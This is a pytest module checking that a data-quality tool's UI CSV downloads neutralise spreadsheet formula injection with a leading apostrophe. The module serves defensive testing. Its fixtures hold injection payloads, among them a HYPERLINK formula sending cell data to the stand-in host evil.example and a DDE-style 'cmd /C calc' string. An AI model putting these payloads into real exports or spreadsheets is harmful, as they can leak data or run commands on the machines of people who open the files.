"""Every CSV the UI offers for download goes through the product's one writer
(batchcore.export.csv_text): a cell that a spreadsheet would run as a formula starts with `'`,
exactly as in the API's export.

Each page is opened on a store whose names are formulas; every download button's data is
captured (the page's own callable or text) and parsed."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import duckdb
import pytest

import ui_components.charts
import ui_components.core
import ui_components.details
from batchcore.export import CSV_COLUMNS, csv_text, frame_csv, job_export_csv
from tests.ui.conftest import open_page
from tests.ui.seed import add_checks, check_row, noop_job
from tests.ui.test_catalog_compare import take_snapshot
from ui_components.exports import selection_csv

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
EVIL_JOB = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_CHECK = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_TABLE = "-2+3"


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """Every download the pages offer, as {file name: text}, by wrapping the one helper every
    page calls (ui_components.core.download, also imported by charts and details)."""
    got: dict[str, str] = {}
    real = ui_components.core.download

    def capture(where, label, data, file_name, key, **options):
        got[file_name] = data() if callable(data) else data
        return real(where, label, data, file_name, key, **options)

    for module in (ui_components.core, ui_components.charts, ui_components.details):
        monkeypatch.setattr(module, "download", capture)
    return got


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(name: str, text: str) -> list[str]:
    cells = _cells(text)
    bad = [c for c in cells if c.startswith(FORMULAS)]
    assert not bad, (name, bad)
    return cells


def test_the_one_writer_neutralises_like_the_api_export():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "name": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", None],
            "n": [1, 2, 3, 4, 5, 6, 7.5, float("nan")],
            "at": [datetime(2026, 3, 1, 9, 0)] * 7 + [pd.NaT],
        }
    )
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows[0] == ["name", "n", "at"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", ""]
    assert rows[1][1:] == ["1.0", "2026-03-01T09:00:00"]
    assert rows[-1][1:] == ["", ""]  # NaN and NaT are blank, not "nan"/"NaT"
    assert csv_text(["-h"], [[-5]]) == "'-h\r\n-5\r\n"  # numbers are numbers, headers are text


def test_analytics_downloads_are_formula_safe(engine, downloads):
    # the check passed in an earlier run and fails now: it is "getting worse"
    for passed in (True, False):
        job = noop_job(engine, EVIL_JOB, 2, sleep_ms=5, result_failed=(1,))
        engine.wait(job, timeout=10)
        row = check_row(
            "op_1",
            0,
            passed=passed,
            name=EVIL_CHECK,
            table=EVIL_TABLE,
            failed_rows=0 if passed else 4,
        )
        add_checks(engine.store, job, [row])
    for tab in ("Overview", "Failures", "Performance"):
        open_page("pages/analytics.py", an_tab=tab)
    csvs = {k: v for k, v in downloads.items() if k.endswith(".csv")}
    assert {
        "jobs-by-status.csv",
        "jobs-by-type.csv",
        "job-duration.csv",
        "operation-duration.csv",
        "check-failure-rate.csv",
        "checks-getting-worse.csv",
        "slowest-operations.csv",
    } <= set(csvs)
    cells = {name: _assert_safe(name, text) for name, text in csvs.items()}
    assert f"'{EVIL_JOB}" in cells["slowest-operations.csv"]
    assert any(c.endswith(EVIL_CHECK) for c in cells["check-failure-rate.csv"])
    assert any(c.endswith(EVIL_CHECK) for c in cells["checks-getting-worse.csv"])


def test_job_history_and_details_downloads_are_formula_safe(engine, downloads):
    job = noop_job(engine, EVIL_JOB, 1, tags=["+tag"])
    engine.wait(job, timeout=10)
    open_page("pages/job_history.py")
    open_page("pages/job_details.py", job_id=job)
    csvs = {k: v for k, v in downloads.items() if k.endswith(".csv")}
    assert {"job-history.csv", f"job-{job}.csv"} <= set(csvs)
    for name, text in csvs.items():
        _assert_safe(name, text)
    assert f"'{EVIL_JOB}" in _cells(csvs[f"job-{job}.csv"])
    history = _cells(csvs["job-history.csv"])
    assert f"'{EVIL_JOB}" in history and "'+tag" in history
    # nothing ticked: the selection CSV is the header alone
    assert list(csv.reader(io.StringIO(csvs["jobs-0-operations.csv"]))) == [list(CSV_COLUMNS)]
    ticked = selection_csv(engine, [job])
    assert _assert_safe("selection", ticked) and f"'{EVIL_JOB}" in _cells(ticked)
    # the UI's job export is the API's export, byte for byte
    assert csvs[f"job-{job}.csv"] == job_export_csv(engine, job)


def test_catalog_diff_download_is_formula_safe(engine, workspace: Path, downloads):
    path = workspace / "data" / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute('CREATE TABLE "=cmd" (id INTEGER)')
    take_snapshot(engine, "warehouse", datetime(2026, 3, 1, 10, 0, 0))
    with duckdb.connect(str(path)) as con:
        con.execute('ALTER TABLE "=cmd" ADD COLUMN "@evil" VARCHAR')
    take_snapshot(engine, "warehouse", datetime(2026, 3, 1, 11, 0, 0))
    open_page("pages/catalog.py")
    cells = _assert_safe("catalog-diff.csv", downloads["catalog-diff.csv"])
    assert "'=cmd" in cells and "'@evil" in cells


def test_check_history_downloads_are_formula_safe(engine, downloads):
    """Check history's CSVs (per check, per pipeline) go through the same writer."""
    from batchcore.history import CheckKey, matrix_csv, runs_csv
    from batchcore.store import history as q

    run = dict.fromkeys(q.RUN_KEYS)
    run.update(run_at=datetime(2026, 3, 1, 9, 0), job_name=EVIL_JOB, observed={"x": 1})
    text = runs_csv([run], CheckKey("retail_migration", "dim_customer_validation", EVIL_CHECK))
    cells = _assert_safe("check_history.csv", text)
    assert f"'{EVIL_JOB}" in cells and f"'{EVIL_CHECK}" in cells and "2026-03-01T09:00:00" in cells
    matrix = {
        "runs": [{**run, "job_id": "j1", "operation_id": "op_0", "attempt": 1}],
        "cells": [
            {
                "run": 0,
                "check_name": EVIL_CHECK,
                "status": "failed",
                "failed_rows": 3,
                "pass_rate": 0.5,
            }
        ],
    }
    cells = _assert_safe("pipeline_history.csv", matrix_csv(matrix, None, "-pl"))
    assert "'-pl" in cells and f"'{EVIL_JOB}" in cells and f"'{EVIL_CHECK}" in cells
